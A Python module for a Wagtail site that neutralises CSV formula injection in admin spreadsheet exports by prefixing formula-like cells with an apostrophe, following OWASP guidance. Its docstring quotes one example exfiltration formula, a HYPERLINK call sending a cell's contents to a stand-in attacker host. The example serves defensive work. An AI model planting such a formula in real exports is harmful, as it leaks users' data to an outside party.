"""Spreadsheet exports of the admin: a CSV cell a spreadsheet would run as a formula is written as text.

Every export goes through Wagtail's ``SpreadsheetExportMixin``: Ringlet's reports (course
enrollments), snippet listings (certificates) and Wagtail's own (site history, aging and locked
pages, workflows, redirects). Their CSV carries what users typed: a course title or a name
``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would become a live formula in Excel,
LibreOffice or Google Sheets. Following OWASP's CSV injection guidance, a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms) is
prefixed with an apostrophe, which spreadsheets read as "this is text" and do not show; the csv
module quotes the rest. Only strings change: numbers (a negative count) stay numbers.

Wagtail leaves this to the site (its security documentation, "CSV export security
considerations"), and offers no hook for it on its own views, so ``install`` wraps the
mixin's one per-cell method, ``preprocess_field_value``, once, at start-up
(``PortalConfig.ready``); tests/portal/test_spreadsheets.py checks it on each kind of export, so
an upgrade that renames the method fails there. The XLSX export is safe already: Wagtail writes
any formula-looking cell as a string.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

# The full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20) are read as formulas too.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def as_text(value):
    """``value``, with an apostrophe in front if a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def install():
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "writes_formulas_as_text", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        processed = original(self, field, value, export_format)
        return as_text(processed) if export_format == self.FORMAT_CSV else processed

    preprocess_field_value.writes_formulas_as_text = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
